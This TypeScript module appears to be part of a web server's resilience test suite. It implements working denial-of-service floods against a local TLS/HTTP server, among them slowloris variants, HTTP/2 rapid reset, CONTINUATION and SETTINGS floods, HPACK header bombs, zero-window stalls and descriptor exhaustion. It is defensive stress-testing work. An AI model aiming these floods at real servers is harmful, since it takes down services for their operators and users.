// What attackers do to an engine, each as a loop that goes on until it is told to stop.

import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { createConnection, type Socket } from 'node:net';
import { connect, type TLSSocket } from 'node:tls';
import { clientHelloWithIdentities } from '../support/raw-hello.ts';
import { fieldBlock, flag, frame, frameType, getFields, headersFrame } from '../support/raw-http2.ts';

export interface Attack {
  readonly port: number;
  readonly running: () => boolean;
  /** One more blow was dealt. */
  readonly strike: (count?: number) => void;
}

/** One of an attack's connections: resolves when that is over, or when the attack is. */
type Attacker = (attack: Attack, number: number) => Promise<void>;

interface Flood {
  readonly connections: number;
  readonly attacker: Attacker;
}

const PAUSE_MS = 20;
const pause = (ms = PAUSE_MS): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms));

function openTls(port: number, protocol: 'h2' | 'http/1.1'): Promise<TLSSocket> {
  return new Promise((resolve, reject) => {
    const socket = connect({
      ...{ host: '127.0.0.1', port, servername: 'localhost', rejectUnauthorized: false },
      ALPNProtocols: [protocol],
      // The cheapest for the attacker.
      ...{ ciphers: 'TLS_AES_128_GCM_SHA256', ecdhCurve: 'X25519' },
    });
    socket.setNoDelay(true);
    socket.once('secureConnect', () => resolve(socket));
    socket.on('error', reject);
    socket.once('close', () => reject(new Error('closed')));
  });
}

function openTcp(port: number, localAddress = '127.0.0.1'): Promise<Socket> {
  return new Promise((resolve, reject) => {
    const socket = createConnection({ host: '127.0.0.1', port, localAddress });
    socket.once('connect', () => resolve(socket));
    socket.on('error', reject);
    socket.once('close', () => reject(new Error('closed')));
  });
}

/** Writes again and again, as fast as the engine takes it, until the connection or the attack ends. */
async function pour(
  { running, strike }: Attack,
  socket: Socket,
  next: () => Buffer,
  each: number,
  restMs = 0,
): Promise<void> {
  while (running() && !socket.destroyed && socket.writable) {
    if (!socket.write(next())) {
      await Promise.race([new Promise((resolve) => socket.once('drain', resolve)), pause(200)]);
      if (socket.writableLength > 1_000_000) {
        await pause();
        continue;
      }
    }
    strike(each);
    await pause(restMs);
  }
  socket.destroy();
}

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');

function setting(id: number, value: number): Buffer {
  const entry = Buffer.alloc(6);
  entry.writeUInt16BE(id, 0);
  entry.writeUInt32BE(value, 2);
  return entry;
}
const INITIAL_WINDOW_SIZE = 4;

async function openHttp2({ port }: Attack, settings: Buffer = Buffer.alloc(0)): Promise<TLSSocket> {
  const socket = await openTls(port, 'h2');
  socket.write(Buffer.concat([PREFACE, frame(frameType.settings, 0, 0, settings)]));
  return socket;
}

/** On a connection of HTTP/2 whose answers are read and forgotten: the same frames without end. */
function http2Flood(frames: (turn: number) => Buffer, each: number): Attacker {
  return async (attack) => {
    const socket = await openHttp2(attack);
    socket.resume();
    let turn = 0;
    await pour(attack, socket, () => frames(turn++), each);
  };
}

function repeated(unit: Buffer, times: number): Buffer {
  return Buffer.concat(Array<Buffer>(times).fill(unit));
}

const CANCEL = Buffer.from([0, 0, 0, 8]);
const pings = repeated(frame(frameType.ping, 0, 0, Buffer.alloc(8)), 500);
const settingsFrames = repeated(frame(frameType.settings, 0, 0, setting(INITIAL_WINDOW_SIZE, 65_535)), 500);
const priorityFrames = repeated(frame(2, 0, 1, Buffer.from([0, 0, 0, 3, 1])), 500);
const windowUpdates = repeated(frame(8, 0, 0, Buffer.from([0, 0, 0, 1])), 500);
const emptyData = repeated(frame(frameType.data, 0, 1), 500);

/** HPACK: a field of 4 kB goes into the table once, then a byte each stands for it (RFC 7541 §6.1). */
function headerBomb(stream: number): Buffer {
  const name = Buffer.concat([Buffer.from([0x40]), fieldBlock([['x-bomb', 'a'.repeat(3900)]]).subarray(1)]);
  const head = fieldBlock(getFields('/bomb'));
  return frame(
    frameType.headers,
    flag.endStream | flag.endHeaders,
    stream,
    Buffer.concat([head, name, Buffer.alloc(12_000, 0x80 | 62)]),
  );
}

/** Requests whose answers nobody makes room for. */
async function stalledStreams(attack: Attack, path: string, update: Buffer | undefined): Promise<void> {
  const socket = await openHttp2(attack, setting(INITIAL_WINDOW_SIZE, 0));
  socket.resume();
  const streams = Array.from({ length: 100 }, (_, index) => 2 * index + 1);
  socket.write(Buffer.concat(streams.map((stream) => headersFrame(stream, getFields(path)))));
  attack.strike(streams.length);
  while (attack.running() && !socket.destroyed) {
    if (update !== undefined) {
      socket.write(Buffer.concat(streams.map((stream) => frame(8, 0, stream, update))));
      attack.strike(streams.length);
    }
    await pause();
  }
  socket.destroy();
}

/** One connection of HTTP/1.1 that sends a beginning and then a byte now and then. */
function dripping(beginning: string, drop: string): Attacker {
  return async (attack) => {
    const socket = await openTls(attack.port, 'http/1.1');
    socket.resume();
    socket.write(beginning);
    attack.strike();
    while (attack.running() && !socket.destroyed) {
      await pause(200);
      socket.write(drop);
    }
    socket.destroy();
  };
}

async function untilClosed({ running }: Attack, socket: Socket): Promise<void> {
  while (running() && !socket.destroyed) await pause();
  socket.destroy();
}

function descriptorLimit(): number {
  const limits = readFileSync('/proc/self/limits', 'latin1');
  return Number(/^Max open files\s+(\d+)/m.exec(limits)?.[1] ?? 1024);
}

const pipelined = repeated(Buffer.from('GET /bytes?n=10 HTTP/1.1\r\nHost: a\r\n\r\n'), 200);

export const floods = {
  'slow heads': { connections: 200, attacker: dripping('GET / HTTP/1.1\r\nHost: a\r\nX-Slow: ', 'x') },
  'slow bodies': {
    connections: 200,
    attacker: dripping('POST /hang HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n', 'x'),
  },
  'slow readers': {
    connections: 100,
    attacker: async (attack) => {
      const socket = await openTls(attack.port, 'http/1.1');
      socket.pause();
      socket.write('GET /bytes?n=4000000 HTTP/1.1\r\nHost: a\r\n\r\n');
      attack.strike();
      await untilClosed(attack, socket);
    },
  },
  'pipelining whose answers are read': {
    connections: 8,
    attacker: async (attack) => {
      const socket = await openTls(attack.port, 'http/1.1');
      socket.resume();
      await pour(attack, socket, () => pipelined, 200);
    },
  },
  'pipelining whose answers are not read': {
    connections: 100,
    attacker: async (attack) => {
      const socket = await openTls(attack.port, 'http/1.1');
      socket.pause();
      await pour(attack, socket, () => pipelined, 200, 50);
    },
  },
  // As many as a process has descriptors for, on either side, with some left for those who measure.
  'connections without a ClientHello': {
    connections: Math.min(15_000, descriptorLimit() - 2000),
    attacker: async (attack, number) => {
      await pause(number / 10);
      try {
        // From several addresses: one has too few ports.
        const socket = await openTcp(attack.port, `127.0.1.${1 + (number % 50)}`);
        socket.resume();
        // The beginning of a record that promises more.
        socket.write(Buffer.from([22, 3, 1, 2, 0, 1]));
        attack.strike();
        await untilClosed(attack, socket);
      } finally {
        // Refused, as most are: at once again would be a flood of SYNs, which is the kernel's to bear.
        for (let waited = 0; attack.running() && waited < 15; waited++) await pause(200);
      }
    },
  },
  'bytes that are no TLS': {
    connections: 20,
    attacker: async (attack) => {
      const socket = await openTcp(attack.port);
      socket.resume();
      socket.write('GET / HTTP/1.1\r\n\r\n');
      attack.strike();
      await untilClosed(attack, socket);
    },
  },
  'tickets that nobody sealed': {
    connections: 20,
    attacker: async (attack) => {
      const socket = await openTcp(attack.port);
      const tickets = Array.from({ length: 16 }, () => randomBytes(208));
      socket.write(clientHelloWithIdentities(tickets));
      await Promise.race([new Promise((resolve) => socket.once('data', resolve)), pause(1000)]);
      attack.strike(tickets.length);
      socket.destroy();
    },
  },
  'handshakes that are left': {
    connections: 50,
    attacker: async (attack) => {
      const socket = await openTcp(attack.port);
      socket.write(clientHelloWithIdentities([randomBytes(208)]));
      attack.strike();
      // The server has signed for nothing; the client waits for its time to be up.
      socket.resume();
      await untilClosed(attack, socket);
    },
  },
  'rapid reset': {
    connections: 8,
    attacker: http2Flood(
      (turn) =>
        Buffer.concat(
          Array.from({ length: 50 }, (_, index) => {
            const stream = 2 * (turn * 50 + index) + 1;
            return Buffer.concat([
              headersFrame(stream, getFields('/hang')),
              frame(frameType.rstStream, 0, stream, CANCEL),
            ]);
          }),
        ),
      50,
    ),
  },
  CONTINUATION: {
    connections: 8,
    attacker: http2Flood(
      (turn) =>
        turn === 0
          ? headersFrame(1, getFields('/endless'), flag.endStream)
          : repeated(frame(frameType.continuation, 0, 1, fieldBlock([['x', 'a'.repeat(500)]])), 30),
      30,
    ),
  },
  SETTINGS: { connections: 4, attacker: http2Flood(() => settingsFrames, 500) },
  PING: { connections: 4, attacker: http2Flood(() => pings, 500) },
  PRIORITY: { connections: 4, attacker: http2Flood(() => priorityFrames, 500) },
  'empty DATA frames': {
    connections: 4,
    attacker: http2Flood(
      (turn) =>
        turn === 0
          ? headersFrame(1, [[':method', 'POST'], ...getFields('/hang').slice(1)], flag.endHeaders)
          : emptyData,
      500,
    ),
  },
  'header bombs': { connections: 8, attacker: http2Flood((turn) => headerBomb(2 * turn + 1), 1) },
  'streams without a window': {
    connections: 6,
    attacker: (attack) => stalledStreams(attack, '/bytes?n=1000000', undefined),
  },
  'small answers without a window': {
    connections: 10,
    attacker: (attack) => stalledStreams(attack, '/bytes?n=100', undefined),
  },
  'windows of one byte': {
    connections: 4,
    attacker: (attack) => stalledStreams(attack, '/bytes?n=100000', Buffer.from([0, 0, 0, 1])),
  },
  'window updates': { connections: 4, attacker: http2Flood(() => windowUpdates, 500) },
} as const satisfies Readonly<Record<string, Flood>>;

export type FloodName = keyof typeof floods;

/** All connections of a flood, each opened anew when it is ended. */
export async function runFlood(name: FloodName, attack: Attack): Promise<void> {
  const { connections, attacker }: Flood = floods[name];
  await Promise.all(
    Array.from({ length: connections }, async (_, number) => {
      while (attack.running()) {
        // Refused, reset, closed: that is what is hoped for.
        await attacker(attack, number).catch(() => {});
        await pause();
      }
    }),
  );
}
